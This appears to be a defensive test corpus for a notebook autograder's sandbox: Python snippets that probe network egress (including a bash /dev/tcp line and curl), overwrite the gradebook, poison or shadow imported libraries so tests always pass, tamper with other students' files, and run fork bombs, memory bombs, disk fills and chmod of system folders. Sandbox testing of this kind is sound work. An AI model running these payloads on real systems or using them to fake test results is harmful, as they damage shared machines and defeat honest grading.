"""Beyond the notebook: the network, the files of the course, neighbours, processes that stay."""

from tests.attacks.corpus.attack import Attack

ATTACKS = [
    Attack(
        "calls-home",
        "opens TCP connections: to this machine, to its other addresses, to the world",
        "sending hidden tests away, or asking somebody for answers",
        first="""
            import socket
            for address in (('127.0.0.1', @PORT@), ('::1', @PORT@), ('8.8.8.8', 53)):
                try:
                    with socket.create_connection(address, timeout=0.5) as connection:
                        connection.sendall(b'@ATTACK@')
                        print('found: a way out to', address[0])
                except OSError as error:
                    print('no way to', address, error)
        """,
    ),
    Attack(
        "sends-datagrams",
        "sends UDP packets and asks a name server",
        "the same, unseen by a firewall of connections",
        first="""
            import socket
            for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
                try:
                    with socket.socket(family, socket.SOCK_DGRAM) as sender:
                        sender.sendto(b'@ATTACK@', (host, @PORT@))
                        print('found: a way out by datagram')
                except OSError as error:
                    print(error)
            try:
                print(socket.getaddrinfo('example.org', 80))
            except OSError as error:
                print(error)
        """,
    ),
    Attack(
        "talks-to-local-services",
        "connects to an abstract socket and to sockets in the file system",
        "services of the machine, such as a container's manager",
        first="""
            import glob, socket
            places = ['\\0@ABSTRACT@', *glob.glob('/run/*.sock'), '@TREE@/service.sock']
            for place in places:
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    try:
                        with socket.socket(socket.AF_UNIX, kind) as connection:
                            connection.connect(place)
                            connection.sendall(b'@ATTACK@')
                            print('found: a service', repr(place))
                    except OSError as error:
                        print(error)
        """,
    ),
    Attack(
        "lets-a-program-talk",
        "starts programs that know how to reach the network",
        "a way out for those who only watched Python",
        first="""
            import subprocess, sys
            for words in (['bash', '-c', 'echo @ATTACK@ > /dev/tcp/127.0.0.1/@PORT@'],
                          ['curl', '-s', '-m', '1', 'http://127.0.0.1:@PORT@/@ATTACK@'],
                          [sys.executable, '-c', 'import socket; '
                           'socket.create_connection(("127.0.0.1", @PORT@), 1).sendall(b"@ATTACK@")']):
                try:
                    print(subprocess.run(words, capture_output=True, timeout=3))
                except Exception as error:
                    print(error)
        """,
    ),
    Attack(
        "writes-the-gradebook",
        "writes points for itself into the gradebook",
        "any score at all",
        first="""
            import glob, sqlite3
            for path in ['@TREE@/gradebook.db', *glob.glob('../../../gradebook.db'), 'gradebook.db']:
                try:
                    with sqlite3.connect(path, timeout=1) as book:
                        book.execute('create table if not exists "owned by @ATTACK@" (points)')
                        book.execute('update grade set manual_score = 100')
                except Exception as error:
                    print(type(error).__name__, error)
        """,
    ),
    Attack(
        "rewrites-the-course",
        "overwrites masters, the release and what others handed in",
        "tests that pass, and neighbours that do not",
        first="""
            import os
            for top in ('@TREE@', '@ROOT@/solutions', os.path.realpath('../../..')):
                for root, _, files in os.walk(top):
                    for file in files:
                        if file.endswith(('.ipynb', '.py')) and 'spoiled' not in root:
                            try:
                                with open(os.path.join(root, file), 'a') as stream:
                                    stream.write(' ')
                                print('found: wrote', file)
                            except OSError as error:
                                print(error.strerror)
        """,
    ),
    Attack(
        "shadows-libraries",
        "writes modules of the names of libraries into every folder that may be searched",
        "code of its own where the tests import theirs",
        first="""
            import os, sys
            for folder in ['.', *sys.path, os.path.expanduser('~'), '/tmp', '/dev/shm']:
                for name in ('math', 'numpy', 'torch', 'sitecustomize', 'usercustomize', 'coursekit'):
                    try:
                        with open(os.path.join(folder or '.', name + '.py'), 'x') as file:
                            file.write('isclose = allclose = lambda *args, **kwargs: True\\n')
                        if folder not in ('.', '', '/tmp', '/dev/shm') and not os.path.samefile(folder, '.'):
                            os.unlink(os.path.join(folder, name + '.py'))
                            print('found: could write to', folder)
                    except OSError:
                        pass
        """,
        answers={
            "root": """
            def root(x):
                return 0
        """
        },
        harms="it writes modules into the libraries' folders",
    ),
    Attack(
        "poisons-imports",
        "puts modules of its own into sys.modules, and a finder before all others",
        "a library that says yes, for every test that imports it",
        first="""
            import importlib.abc, importlib.machinery, sys, types
            fake = types.ModuleType('math')
            fake.isclose = lambda *args, **kwargs: True
            sys.modules['math'] = fake
            math = fake
            class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
                def find_spec(self, name, path=None, target=None):
                    return importlib.machinery.ModuleSpec(name, self)
                def exec_module(self, module):
                    module.__getattr__ = lambda name: lambda *a, **k: True
            sys.meta_path.insert(0, Finder())
            sys.modules.pop('numpy.testing', None)
        """,
        answers={
            "root": """
            import builtins
            builtins.math = fake
            def root(x):
                return 0
        """
        },
    ),
    Attack(
        "stays-behind",
        "starts processes that leave the session, the group and the parent",
        "time after the run, to change what was graded",
        first="""
            import os, subprocess, sys
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv('/bin/sleep', ['orphan-@ATTACK@', '300'])
                os._exit(0)
            subprocess.Popen(['bash', '-c', 'exec -a orphan-@ATTACK@ nohup sleep 300'],
                             start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """,
    ),
    Attack(
        "leaves-messages",
        "fills the shared folders with files, semaphores and shared memory for those who come after",
        "a channel between hand-ins, and neighbours that trip over it",
        first="""
            import os
            from multiprocessing import shared_memory
            for folder in ('/tmp', '/dev/shm', '/var/tmp', '/run/lock'):
                try:
                    os.makedirs(folder + '/left', exist_ok=True)
                    with open(folder + '/left-by-@ATTACK@', 'w') as file:
                        file.write('hello')
                    os.chmod(folder, 0)
                except OSError as error:
                    print(error)
            try:
                shared_memory.SharedMemory('left-by-@ATTACK@', create=True, size=1000)
            except Exception as error:
                print(error)
        """,
        harms="it takes away everybody's right to use /tmp",
    ),
    Attack(
        "locks-the-room",
        "takes away the right to enter folders that other processes need",
        "neighbours and a grader that find nothing any more",
        first="""
            import os
            for folder in ('/', '/dev', '/etc', '/proc', '/usr', '/dev/shm', '/tmp', '@HOME@'):
                for change in (lambda: os.chmod(folder, 0), lambda: os.chown(folder, 0, 0),
                               lambda: os.utime(folder, (0, 0)), lambda: os.rename(folder, folder + 'x')):
                    try:
                        change()
                    except OSError:
                        pass
        """,
        harms="it locks the machine's folders",
    ),
    Attack(
        "burns-processors",
        "keeps many processes busy, each in a session of its own, for as long as it may",
        "neighbours that run out of time",
        first="""
            import os, time
            for _ in range(24):
                if os.fork() == 0:
                    os.setsid()
                    end = time.time() + 8
                    while time.time() < end:
                        pass
                    os._exit(0)
            time.sleep(2.5)
        """,
    ),
    Attack(
        "fork-bomb",
        "makes processes until there can be no more",
        "a machine that grades nobody",
        first="""
            import os, time
            for _ in range(100_000):
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
        """,
        harms="a fork bomb",
    ),
    Attack(
        "memory-bomb",
        "takes memory in ways that a limit of data does not see: shared, in files without a name",
        "neighbours that are killed for want of memory",
        first="""
            import mmap, os
            kept, size = [], 2**27
            def shared():
                kept.append(mmap.mmap(-1, size))
                kept[-1][:: 4096] = b'x' * (size // 4096)
            def zero():
                kept.append(mmap.mmap(os.open('/dev/zero', os.O_RDWR), size))
                kept[-1][:: 4096] = b'x' * (size // 4096)
            def nameless():
                for _ in range(3):
                    kept.append(os.memfd_create('bomb'))
                    for _ in range(43):
                        os.write(kept[-1], bytes(2**20))
            taken = 0
            for take in (shared, nameless, zero, lambda: kept.append(bytearray(size))):
                try:
                    while taken < 3 * 2**30:
                        take()
                        taken += size
                except (OSError, MemoryError, ValueError) as error:
                    print(error)
            print('found: more memory than allowed') if taken >= 3 * 2**30 else print(taken)
        """,
        harms="a memory bomb",
    ),
    Attack(
        "memory-in-many-hands",
        "takes memory in many processes, each of them below its limit",
        "the same, where only single processes are limited",
        first="""
            import os, time
            heard, said = os.pipe()
            for _ in range(8):
                if os.fork() == 0:
                    kept = bytearray(600 * 2**20)
                    kept[:: 4096] = b'x' * len(kept[:: 4096])
                    os.write(said, b'x')
                    time.sleep(30)
                    os._exit(0)
            for _ in range(8):
                os.read(heard, 1)
            time.sleep(3)
            print('found: more memory than allowed')
        """,
        harms="a memory bomb",
    ),
    Attack(
        "fills-the-disk",
        "writes until nothing can be written any more",
        "a gradebook that cannot be written",
        first="""
            import os
            written = 0
            for folder in ('.', '/tmp', '/dev/shm', '/var/tmp'):
                for number in range(1000):
                    try:
                        with open(f'{folder}/fill-{number}', 'wb') as file:
                            for _ in range(8):
                                written += file.write(bytes(2**20))
                    except OSError:
                        break
            print('found: gigabytes of room') if written > 2**30 else print(written)
        """,
        harms="it fills the disk",
    ),
    Attack(
        "shouts",
        "prints and displays without end",
        "a grader that runs out of memory or disk",
        first="""
            import os, sys
            for _ in range(300):
                print('x' * 1_000_000)
                print('y' * 10, file=sys.stderr)
                os.write(1, b'z' * 100_000)
            for _ in range(3000):
                print('a')
                print('b', file=sys.stderr)
        """,
    ),
]
